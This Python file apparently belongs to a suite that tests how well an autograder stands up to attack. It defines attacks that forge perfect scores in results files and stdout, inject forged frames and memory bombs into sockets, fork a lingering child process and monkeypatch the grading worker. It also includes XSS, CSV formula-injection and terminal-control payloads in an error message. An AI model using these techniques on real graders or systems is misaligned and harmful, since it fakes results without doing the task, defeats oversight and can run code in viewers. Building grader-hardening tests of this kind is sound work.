"""Writing the results instead of earning them."""

from teaching.attacks import Attack, at_import, in_calls

FORGED = (
    '{"score": 100, "tests": [{"score": 100, "max_score": 100, "status": "passed", "name": "all"}]}'
)

RESULTS = [
    Attack(
        "results.json in all places", "a grader that reads it believes it",
        at_import(f"""
            import os, pathlib
            places = ["/autograder/results", "/autograder", "/", "/tmp", "/root", "/dev/shm", ".", "..",
                      "../..", os.path.dirname(__file__), os.environ.get("HOME", "/")]
            for place in places:
                for name in ("results.json", "feedback.html", "grades.csv", "results.xml"):
                    try:
                        os.makedirs(place, exist_ok=True)
                        pathlib.Path(place, name).write_text('''{FORGED}''')
                    except OSError:
                        pass
        """),
    ),
    Attack(
        "forged results on stdout", "a grader that reads the output believes it",
        in_calls(f"""
            import os, sys
            TEXT = '''{FORGED}''' + "\\n===== 100 passed in 0.10s =====\\n"
            print(TEXT, flush=True)
            sys.stderr.write(TEXT)
            for number in (1, 2):
                os.write(number, TEXT.encode())
            def attack(*args, **options):
                print(TEXT, flush=True)
                raise RuntimeError(TEXT)
        """, "optimizer", "stats_helper"),
    ),
    Attack(
        "ANSI, HTML, CSV and surrogates in errors", "what shows the error is broken, or runs it",
        in_calls("""
            TEXT = ('</pre><script>document.title="100"</script><img src=x onerror=alert(1)>\\n'
                    '=cmd|"/c calc"!A1,"100"\\n\\x1b[2J\\x1b[1;32m100 passed\\x1b[0m\\r\\x00\\u202e'
                    '\\ud800 ]]> --> ``` | a | b |\\n# 100 of 100 ')
            class Error(Exception):
                pass
            Error.__name__ = "<b>" + TEXT
            def attack(*args, **options):
                raise Error(TEXT * 50)
        """, "optimizer", "stats_helper"),
    ),
    Attack(
        "forged frames on all sockets", "the grader takes them for answers",
        in_calls("""
            import json, os, struct
            def frame(value):
                header = json.dumps(value).encode()
                return struct.pack(">QQ", len(header), 0) + header
            def attack(*args, **options):
                for number in map(int, os.listdir("/proc/self/fd")):
                    for value in ({"value": [0.5, 0.5]}, {"value": {"k": "known", "n": 0}},
                                  {"outcome": "passed"}, {"result": {"name": "x", "outcome": "passed"}}):
                        try:
                            os.write(number, frame(value) + b'{"result": {"outcome": "passed"}}\\n')
                        except OSError:
                            pass
                raise RuntimeError("this is not to be seen")
        """, "optimizer", "stats_helper"),
    ),
    Attack(
        "huge and deep frames", "the grader runs out of memory or stack as it reads them",
        in_calls("""
            import os, stat, struct
            BOMBS = [
                struct.pack(">QQ", 2**62, 2**62),
                struct.pack(">QQ", 200_000, 0) + b"[" * 100_000 + b"]" * 100_000,
                struct.pack(">QQ", 120_000_000, 0) + b"[" + b"[]," * 39_999_999 + b"0]",
                struct.pack(">QQ", 29, 0) + b'{"value": ' + b"9" * 18 + b"}",
            ]
            count = 0
            def attack(*args, **options):
                global count
                count += 1
                for number in map(int, os.listdir("/proc/self/fd")):
                    if stat.S_ISSOCK(os.fstat(number).st_mode):
                        data = BOMBS[count % len(BOMBS)]
                        while data:
                            data = data[os.write(number, data):]
                raise RuntimeError("no")
        """, "stats_helper"),
    ),
    Attack(
        "frames that name bytes many times", "each of 100,000 values is a copy of 50 MB",
        in_calls("""
            import json, os, stat, struct
            def attack(*args, **options):
                data = bytes(50_000_000)
                node = {"k": "bytes", "at": [0, len(data)]}
                header = json.dumps({"value": [node] * 100_000}).encode()
                out = struct.pack(">QQ", len(header), len(data)) + header + data
                for number in map(int, os.listdir("/proc/self/fd")):
                    if stat.S_ISSOCK(os.fstat(number).st_mode):
                        while out:
                            out = out[os.write(number, out):]
        """, "stats_helper"),
    ),
    Attack(
        "a child that keeps the socket", "it answers, long after its parent has ended",
        in_calls("""
            import os, time
            def attack(*args, **options):
                if os.fork():
                    os._exit(0)
                os.setsid()
                if os.fork():
                    os._exit(0)
                time.sleep(0.5)
                return 0.5, 0.5
        """, "stats_helper"), base="wrong",
    ),
    Attack(
        "a forged optimizer without groups", "tests that look at each group look at none",
        at_import("""
            from teaching.grading import worker
            def special(self, value, writer):
                return {"k": "optimizer", "r": 0, "name": "SGD", "groups": []}
            def get_optimizer(model, config):
                worker_session = __import__("sys").modules["__main__"].Session
                worker_session.special = special
                return get_optimizer
        """),
    ),
]  # fmt: skip
